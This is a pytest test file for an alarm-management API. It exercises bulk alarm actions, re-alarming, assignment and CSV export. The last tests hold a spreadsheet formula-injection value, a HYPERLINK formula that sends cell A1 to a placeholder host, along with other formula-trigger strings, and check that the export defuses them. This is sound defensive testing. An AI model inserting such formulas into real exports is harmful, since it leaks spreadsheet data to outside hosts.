"""Acts on many alarms at once, who has them, and tables of them, over a real fusion."""

import csv
import time
from io import StringIO

import pytest

from infrastress.app.api.projection import Projection
from infrastress.app.api.table import cell
from infrastress.client import ApiError
from infrastress.core.time import HOUR, SECOND, to_iso
from infrastress.events import decode_event
from infrastress.site.load import load_site
from infrastress.store import open_store
from infrastress.store.ports import read_all, type_of
from tests.app.api.flood import append, detection, flood, judging, quick
from tests.app.api.running import raise_alarms, running
from tests.app.service.serving import wait_for

COUNT = 60


@pytest.fixture(scope="module")
def flooded(site_folder, tmp_path_factory):
    """An API over a fresh store that real fusion works on, with a flood in it."""
    folder = tmp_path_factory.mktemp("many")
    site = quick(load_site(site_folder))
    with (
        open_store(folder / "store") as store,
        running(site_folder, folder / "store", folder / "state", rate=1e6, burst=1e6) as api,
    ):
        append(store, site, list(flood(site, COUNT, end=api.clock.now() - HOUR)))
        with judging(store, site), api.client() as client:
            wait_for(lambda: len(list(client.alarms())) == COUNT, 60)
            yield api, client, store, site


def actions(store, site):
    records = read_all(store.log, f"ingest/{site.id}/main")
    return [decode_event(record.data).body for record in records if type_of(record.subject) == "action"]


def test_one_comment_acknowledges_many_in_one_record_once(flooded):
    _, client, store, site = flooded
    ids = [alarm.id for alarm in client.alarms(state="unacknowledged", sort="priority")][:40]
    first = client.act_on_many("acknowledge", [*ids, "alm-of-nobody", ids[0]], "drill", key="k")
    again = client.act_on_many("acknowledge", [*ids, "alm-of-nobody", ids[0]], "drill", key="k")
    assert (first.repeated, again.repeated) == (False, True)
    assert first.outcomes == again.outcomes == {**dict.fromkeys(ids, "done"), "alm-of-nobody": "unknown"}
    assert first.act == again.act
    (act,) = actions(store, site)
    assert (act.by, act.comment, act.alarm, act.alarms) == ("local", "drill", "", tuple(ids))
    done = {"acknowledged", "closed"}
    wait_for(lambda: {client.alarm(id_).state for id_ in ids} <= done, 30)
    wait_for(lambda: not client.alarm(ids[0]).pending, 30)
    (told,) = client.alarm(ids[7]).acts
    assert (told.alarm, told.together, told.comment, told.taken) == (ids[7], 40, "drill", True)
    stood = client.act_on_many("acknowledge", ids[:3])
    assert stood.act is None
    assert set(stood.outcomes.values()) == {"stood"}
    assert len(actions(store, site)) == 1
    (decision,) = client.decisions(kind="action")
    assert (len(decision.content["body"]["alarms"]), decision.content["body"]["alarms_total"]) == (20, 40)


def test_what_is_raised_again_after_an_acknowledgement_says_so(flooded):
    api, client, store, site = flooded
    first = api.clock.now() - 2 * SECOND
    append(store, site, [detection("gas.high_alarm", ("GD-02",), first, site=site, number=10**6)])
    wait_for(lambda: list(client.alarms(rule="gas.high_alarm", asset="GD-02")) != [], 30)
    (alarm,) = client.alarms(rule="gas.high_alarm", asset="GD-02")
    assert alarm.state == "unacknowledged"
    assert alarm.realarmed is False
    result = client.acknowledge(alarm.id, "seen")
    assert [act.action for act in result.alarm.pending] == ["acknowledge"]
    wait_for(lambda: client.alarm(alarm.id).state == "acknowledged", 30)
    time.sleep(1.5)  # a frame later
    again = api.clock.now() - SECOND
    append(store, site, [detection("gas.high_alarm", ("GD-02",), again, site=site, number=10**6 + 1)])
    wait_for(lambda: client.alarm(alarm.id).state == "unacknowledged", 30)
    told = client.alarm(alarm.id)
    assert (told.realarmed, told.last_raised, told.count) == (True, to_iso(again), alarm.count + 1)
    client.acknowledge(alarm.id)
    wait_for(lambda: client.alarm(alarm.id).realarmed is False, 30)


def test_who_has_an_alarm_is_told_to_all_at_once(flooded):
    api, client, _, _ = flooded
    one, two = [alarm.id for alarm in client.alarms(limit=2)][:2]
    with api.client() as other:
        stream = other.follow("acts")
        assert next(stream).kind == "start"
        result = client.assign_alarm(one, "role:security", "please look")
        assert (result.alarm.assigned_to, result.alarm.pending) == ("role:security", [])
        (act,) = next(stream).update.acts
        assert (act.action, act.to, act.alarms, act.comment) == ("assign", "role:security", [one], "please look")
        client.act_on_many("assign", [one, two], to="local")
        (act,) = next(stream).update.acts
        assert act.alarms == [one, two]
    assert client.act_on_many("assign", [one, two], to="local").act is None
    assert client.alarm(two).assigned_to == "local"
    assert client.assign_alarm(two, None).alarm.assigned_to is None
    for nobody in ("eve", "role:reporter-liaison", "role:admin"):
        with pytest.raises(ApiError, match="nobody who may act"):
            client.assign_alarm(one, nobody)


def test_who_has_an_alarm_outlives_a_restart(flooded):
    _, client, store, site = flooded
    alarm = next(client.alarms())
    client.assign_alarm(alarm.id, "role:operator")
    projection = Projection(store, site.id)
    projection.load()
    assert projection.assigned[alarm.id][2] == "role:operator"


def test_what_goes_with_which_act(flooded):
    api, client, _, _ = flooded
    ids = [next(client.alarms()).id]
    until = to_iso(api.clock.now() + HOUR)
    for action, more in (
        ("shelve", {}),
        ("acknowledge", {"until": until}),
        ("acknowledge", {"to": "local"}),
        ("shelve", {"until": to_iso(api.clock.now() - HOUR)}),
        ("assign", {"to": "eve"}),
    ):
        with pytest.raises(ApiError) as caught:
            client.act_on_many(action, ids, **more)
        assert caught.value.status == 422
    assert client.act_on_many("shelve", ids, "cleaning", until=until).outcomes == {ids[0]: "done"}
    wait_for(lambda: client.alarm(ids[0]).state == "shelved", 30)
    assert client.act_on_many("unshelve", ids).outcomes == {ids[0]: "done"}
    wait_for(lambda: client.alarm(ids[0]).state != "shelved", 30)


def test_alarms_of_one_cause_share_their_group(flooded):
    _, client, _, _ = flooded
    for alarm in client.alarms(limit=7):
        assert alarm.group == (alarm.incident or f"{alarm.rule}@{alarm.zone}")


def test_the_table_holds_all_that_fit_and_no_formula(flooded):
    _, client, _, _ = flooded
    rows = list(csv.DictReader(StringIO(client.alarms_csv(sort="priority"))))
    listed = list(client.alarms(sort="priority", limit=7))
    assert [(row["id"], row["state"], int(row["priority"])) for row in rows] == [
        (alarm.id, alarm.state, alarm.priority) for alarm in listed
    ]
    some = client.alarms_csv(severity="critical").splitlines()
    assert len(some) - 1 == sum(alarm.severity == "critical" for alarm in listed)


def test_formulas_in_what_people_and_machines_wrote_are_none(site_folder, tmp_path):
    with running(site_folder, tmp_path / "store", tmp_path / "state") as api, api.client() as client:
        raise_alarms(api.store, range(1), words='=HYPERLINK("http://x/?"&A1)')
        wait_for(lambda: list(client.alarms()), 20)
        (row,) = csv.DictReader(StringIO(client.alarms_csv()))
        assert row["sentence"] == '\'=HYPERLINK("http://x/?"&A1)'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\r=1"])
def test_cells_that_a_spreadsheet_would_run_are_defused(text):
    assert cell(text) == f"'{text}"
    assert cell([text, "x"]) == f"'{text} x"


@pytest.mark.parametrize(
    ("value", "text"), [(None, ""), (True, "true"), (-3, "-3"), (1.5, "1.5"), ("a-b", "a-b"), (["a", "b"], "a b")]
)
def test_other_cells_stay(value, text):
    assert cell(value) == text
